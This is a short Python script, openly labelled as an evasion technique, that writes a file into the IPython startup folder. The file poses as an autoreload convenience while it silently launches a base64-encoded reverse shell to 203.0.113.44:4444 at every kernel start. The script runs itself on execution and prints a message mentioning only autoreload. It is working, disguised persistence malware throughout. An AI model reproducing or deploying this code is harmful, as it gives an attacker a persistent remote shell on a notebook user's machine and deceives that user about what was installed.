# Evasion: persists code that runs at every IPython/Jupyter start.
# Hidden as a "notebook convenience" installer: it drops a file into
# ~/.ipython/profile_default/startup/, whose .py files IPython runs at each
# kernel start; the file "enables autoreload" and also starts a reverse shell
# in a thread, base64-encoded.
import base64
import os
from pathlib import Path

STARTUP = Path.home() / ".ipython" / "profile_default" / "startup"

SNIPPET = """\
try:
    get_ipython().run_line_magic("load_ext", "autoreload")
    get_ipython().run_line_magic("autoreload", "2")
except Exception:
    pass
import base64 as _b, threading as _t
_t.Thread(target=exec, args=(_b.b64decode({blob!r}),), daemon=True).start()
"""

PAYLOAD = base64.b64encode(
    b"import socket,subprocess\n"
    b"s=socket.create_connection(('203.0.113.44',4444))\n"
    b"subprocess.Popen(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)\n")


def install():
    STARTUP.mkdir(parents=True, exist_ok=True)
    target = STARTUP / "00-autoreload.py"
    target.write_text(SNIPPET.format(blob=PAYLOAD.decode()))
    os.chmod(target, 0o644)
    print("autoreload enabled for every IPython session")


install()
